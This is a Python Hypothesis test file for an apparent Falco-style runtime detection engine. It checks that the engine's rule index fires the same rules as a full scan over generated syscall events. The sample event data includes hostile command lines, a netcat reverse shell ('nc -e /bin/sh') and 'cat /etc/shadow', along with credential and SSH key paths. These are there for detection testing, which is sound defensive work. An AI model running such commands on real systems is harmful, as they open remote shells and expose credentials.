"""The index never changes what fires: indexed == every rule, every event.

Two rulesets are checked: the three upstream files, and generated ones of many rules
keyed on literal `fd.name`, `fd.directory` and `proc.name` values (with macros shared
between rules, `or`s, `not`s, event-type checks and unindexable rules), where the
literal index, the event-type folding and the shared-macro memo are all in play.
Events include missing, list-valued and non-string values of the indexed fields.
"""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st

from falconer.engine import Engine, EngineOptions, MappingEvent, RulesSource
from falconer.engine.binding import INDEX_MIN_RULES
from falconer.engine.ruleset import Ruleset

_TYPES = ["execve", "execveat", "openat", "open", "openat2", "connect", "accept", "listen",
          "socket", "sendto", "ptrace", "init_module", "finit_module", "unlinkat", "rename",
          "mkdir", "chmod", "setuid", "setns", "unshare", "bpf", "userfaultfd", "dup2",
          "read", "close", "mmap", "symlinkat", "linkat", "memfd_create"]
_NAMES = ["bash", "sh", "cat", "nginx", "python3", "sshd", "kubectl", "nc", "vi", "mount",
          "runc", "docker", "node", "sudo", "passwd"]
_PATHS = ["/etc/shadow", "/etc/passwd", "/root/.ssh/authorized_keys", "/dev/shm/x", "/tmp/a",
          "/proc/self/mem", "/var/run/docker.sock", "/usr/bin/ls", "/etc/sudoers",
          "/bin/bash", "10.0.0.1:40000->10.0.0.2:4444"]
_DIRS = ["/etc", "/root/.ssh", "/dev/shm", "/tmp", "/usr/bin"]


_EVENTS = st.fixed_dictionaries({
    "evt.type": st.sampled_from(_TYPES),
    "proc.name": st.sampled_from(_NAMES),
    "proc.pname": st.sampled_from(_NAMES),
    "proc.exepath": st.sampled_from(_PATHS),
    "fd.name": st.sampled_from(_PATHS),
    "fd.directory": st.sampled_from(_DIRS),
    "fd.typechar": st.sampled_from(["f", "4", "6", "u"]),
    "fd.num": st.integers(-1, 9),
    "evt.is_open_read": st.booleans(),
    "evt.is_open_write": st.booleans(),
    "evt.res": st.sampled_from(["SUCCESS", "ENOENT", "EPERM"]),
    "evt.rawres": st.integers(-2, 3),
    "container.id": st.sampled_from(["host", "abc123"]),
    "proc.tty": st.sampled_from([0, 34816]),
    "user.uid": st.sampled_from([0, 1000]),
    "proc.cmdline": st.sampled_from(["bash -i", "cat /etc/shadow", "nc -e /bin/sh x 4444"]),
    "proc.aname": st.lists(st.sampled_from(_NAMES), max_size=4),
}).map(MappingEvent)


@given(st.lists(_EVENTS, min_size=1, max_size=20))
@settings(max_examples=150, deadline=None)
def test_index_agrees_with_full_scan(upstream_ruleset: Ruleset,
                                     events: list[MappingEvent]) -> None:
    for event in events:
        indexed = [a.rule for a in upstream_ruleset.evaluate(event)]
        full = [a.rule for a in upstream_ruleset.evaluate_unindexed(event)]
        assert indexed == full, event.fields
    assert upstream_ruleset.errors == 0


# -- generated rulesets: many rules keyed on literals -----------------------------------

#: Shared by many rules (the memo's case); `open_read` folds on the event type.
_MACROS = """
- macro: open_read
  condition: (evt.type in (open, openat, openat2) and evt.is_open_read=true and fd.typechar='f')
- macro: interactive
  condition: (proc.tty != 0 or proc.pname in (bash, sh))
- macro: etc_dir
  condition: (fd.directory = /etc or fd.directory = /root/.ssh)
"""


def _quoted(values: list[str]) -> str:
    return "(" + ", ".join(f'"{v}"' for v in values) + ")"


_KEY = st.one_of(
    st.sampled_from(_PATHS).map(lambda p: f'fd.name = "{p}"'),
    st.lists(st.sampled_from(_PATHS), min_size=1, max_size=3).map(
        lambda ps: f"fd.name in {_quoted(ps)}"),
    st.lists(st.sampled_from(_PATHS), min_size=2, max_size=3).map(
        lambda ps: "(" + " or ".join(f'fd.name = "{p}"' for p in ps) + ")"),
    st.sampled_from(_DIRS).map(lambda d: f"fd.directory = {d}"),
    st.lists(st.sampled_from(_NAMES), min_size=1, max_size=3).map(
        lambda ns: f"proc.name in {_quoted(ns)}"),
    st.just("etc_dir"),
    st.sampled_from(_NAMES).map(lambda n: f"(proc.name = {n} or fd.name = /tmp/a)"),
    st.sampled_from(_NAMES).map(lambda n: f"proc.pname = {n}"),
    st.just("fd.name startswith /etc"),
)
_EXTRA = st.sampled_from([
    "open_read", "interactive", "not interactive", "container.id != host",
    "not proc.name in (sshd, sudo)", "fd.num >= 0", "evt.type = openat",
    "evt.type != execve", "(evt.type = connect or fd.typechar = '4')",
    "not (open_read and proc.tty = 0)", "user.uid = 0", "proc.aname in (bash, sh)",
])
_TYPE_GUARD = st.sampled_from([
    "evt.type in (open, openat, openat2)", "evt.type = execve", "evt.type in (openat, connect)",
    "evt.type != read", "",
])


@st.composite
def _rules_text(draw: st.DrawFn) -> str:
    count = draw(st.integers(INDEX_MIN_RULES, 3 * INDEX_MIN_RULES))
    rules = []
    for i in range(count):
        parts = [p for p in (draw(_TYPE_GUARD), draw(_KEY),
                             *draw(st.lists(_EXTRA, max_size=2))) if p]
        rules.append(f"- rule: r{i}\n  desc: d\n  condition: {' and '.join(parts)}\n"
                     "  output: o %fd.name\n  priority: WARNING\n")
    return _MACROS + "".join(rules)


_ODD_EVENTS = st.fixed_dictionaries({
    "evt.type": st.sampled_from(["openat", "open", "execve", "connect"]),
    "fd.name": st.one_of(st.sampled_from(_PATHS), st.none(), st.just(["/etc/shadow", "/x"]),
                         st.just(7)),
    "proc.name": st.one_of(st.sampled_from(_NAMES), st.none()),
    "fd.directory": st.one_of(st.sampled_from(_DIRS), st.none()),
}).map(lambda d: MappingEvent({k: v for k, v in d.items() if v is not None}))


@given(_rules_text(), st.sampled_from(["all", "first"]),
       st.lists(st.one_of(_EVENTS, _ODD_EVENTS), min_size=1, max_size=15))
@settings(max_examples=150, deadline=None)
def test_generated_rules_index_agrees_with_full_scan(text: str, matching: str,
                                                     events: list[MappingEvent]) -> None:
    engine = Engine(EngineOptions(rule_matching=matching))
    result = engine.load([RulesSource("generated.yaml", text)])
    assert result.ok, [d.human() for d in result.errors]
    ruleset = engine.ruleset
    assert ruleset is not None
    for event in events:
        indexed = [a.rule for a in ruleset.evaluate(event)]
        full = [a.rule for a in ruleset.evaluate_unindexed(event)]
        assert indexed == full, (event.fields, text)
    assert ruleset.errors == 0


def test_generated_buckets_are_indexed() -> None:
    """The generator's rules do reach the index (else the property above tests less)."""
    rules = "".join(f"- rule: r{i}\n  desc: d\n  condition: evt.type = openat and fd.name = "
                    f"/srv/{i}\n  output: o\n  priority: WARNING\n"
                    for i in range(INDEX_MIN_RULES))
    engine = Engine()
    assert engine.load([RulesSource("g.yaml", rules)]).ok
    assert engine.ruleset is not None
    bucket = engine.ruleset.bucket(MappingEvent({"evt.type": "openat"}))
    assert len(bucket.indexes) == 1 and bucket.always == ()
    hit = MappingEvent({"evt.type": "openat", "fd.name": "/srv/3"})
    assert [a.rule for a in engine.ruleset.evaluate(hit)] == ["r3"]
    assert [r.name for r, _ in bucket.candidates(hit)] == ["r3"]
